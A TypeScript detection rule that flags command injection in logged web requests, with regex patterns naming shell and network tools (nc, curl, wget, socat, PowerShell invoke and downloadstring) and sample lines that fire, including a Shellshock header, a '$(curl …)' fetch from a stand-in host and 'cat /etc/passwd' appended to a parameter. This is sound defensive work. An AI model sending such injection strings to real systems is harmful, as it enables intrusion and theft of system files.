import type { LineExamples, LogRule } from '../sign';

export const rule: LogRule = {
  id: 'command-injection',
  row: 36,
  title: 'A request that was logged holds a command',
  techniques: ['T1190', 'T1059.004'],
  severity: 4,
  rationale: 'A separator of the shell and a command after it',
  references: [
    'https://attack.mitre.org/techniques/T1190/',
    'https://owasp.org/www-community/attacks/Command_Injection',
  ],
  hints: [
    ';',
    '|',
    '`',
    '$(',
    '&&',
    '%0a',
    '\n',
    '() {',
    'powershell',
    'invoke-',
    'cmd.exe',
    '/bin/',
    '/usr/bin/',
    '\u0024{ifs}',
    '$ifs',
    '/etc/',
  ],
  patterns: [
    /(?:^|[="'\s])[^\n=]{0,80}[;|`]\s{0,3}(?:(?:sudo|nohup|time|exec|command|env)\s{1,3})?(?:\/(?:usr\/)?s?bin\/)?(?:(?:ba|z|k|da)?sh|cat|curl|wget|nc|ncat|whoami|uname|ifconfig|nslookup|ping|sleep|python[23]?|perl|ruby|php|powershell|cmd\.exe|chmod|tftp|telnet|busybox|base64|printenv|netstat|crontab|socat|nohup|xargs)(?:\s{1,3}(?:-|\/|https?:|[\d.]{7,15}|['"$.]|[a-z]{1,12}:)|[;|`)&]|\$ifs)/,
    /[;|`&]\s{0,3}(?:\/(?:usr\/)?s?bin\/|\\)?(?:whoami|ifconfig|uname\s{0,2}-a|id\s{0,2}[;|`]|cat\s{1,3}\/etc|ls\s{1,3}-[la]{1,3})/,
    /\$\((?:\/(?:usr\/)?s?bin\/)?(?:(?:ba|z|k|da)?sh|cat|curl|wget|nc|ncat|whoami|uname|ifconfig|nslookup|ping|sleep|python[23]?|perl|ruby|php|powershell|cmd\.exe|chmod|tftp|telnet|busybox|base64|printenv|netstat|crontab|socat|nohup|xargs|id|ls|env)\b/,
    /\$\{?ifs\b/,
    /\(\)\s{0,3}\{\s{0,3}:;\s{0,3}\}\s{0,3};/,
    /\b(?:invoke-(?:expression|webrequest|command|mimikatz|restmethod)|iex\s{0,2}\(|downloadstring\s{0,2}\(|-encodedcommand\b|-enc\s{1,3}[a-z0-9+/]{20})/,
    /(?:^|[=;|&`\s"'(])\/(?:usr\/)?(?:local\/)?s?bin\/(?:(?:ba|z|k|da)?sh|cat|curl|wget|nc|ncat|whoami|uname|ifconfig|nslookup|ping|sleep|python[23]?|perl|ruby|php|powershell|cmd\.exe|chmod|tftp|telnet|busybox|base64|printenv|netstat|crontab|socat|nohup|xargs|id|ls|env)\b[^\n]{0,3}(?:\s|$|['"])/,
    /\bcmd(?:\.exe)?\s{0,3}\/c\b/,
    /<!--#\s{0,3}exec\b/,
    /(?:^|[="'])(?:\\n|\r|\n)\s{0,3}(?:(?:ba|z|k|da)?sh|cat|curl|wget|nc|ncat|whoami|uname|ifconfig|nslookup|ping|sleep|python[23]?|perl|ruby|php|powershell|cmd\.exe|chmod|tftp|telnet|busybox|base64|printenv|netstat|crontab|socat|nohup|xargs)\s{1,3}[-/'"]/,
  ],
};

export const examples: LineExamples = {
  fires: [
    'GET /ping?host=127.0.0.1;cat /etc/passwd',
    'name=$(curl https://example.invalid/x)',
    'ua=() { :;}; /bin/bash -c "sleep 6"',
    'file=a|whoami',
  ],
  silent: [
    'a; b; c',
    'Usage: node main.js [options] | more',
    'INFO fetched 3 records | cat=books',
    'curl exited with 7',
  ],
};
